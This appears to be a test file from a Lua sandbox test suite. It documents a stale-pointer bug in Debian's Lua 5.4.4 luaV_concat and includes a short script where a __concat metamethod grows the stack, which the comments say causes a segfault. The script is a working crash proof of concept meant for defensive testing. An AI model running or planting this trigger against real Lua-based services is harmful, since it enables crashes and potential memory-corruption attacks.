-- expect: fail
-- contained: a __concat metamethod can be added to any metatable at any time and can always grow the Lua stack; no check in the language can stop it
-- Debian's Lua 5.4.4 carries the upstream fix for CVE-2022-33099 (42d40581),
-- which left luaV_concat holding a pointer into the Lua stack across the
-- __concat call (fixed upstream in 603b2c64). A metamethod that grows the
-- stack moves it, and the concatenation then writes through the stale
-- pointer: SIGSEGV from this short script at the default budgets.
local function grow(n) if n > 0 then return grow(n - 1) + 0 end return 0 end
local t = setmetatable({}, {__concat = function() grow(20000) return "x" end})
for i = 1, 10 do local s = "a" .. t .. "b" .. t .. "c" end
print("survived")
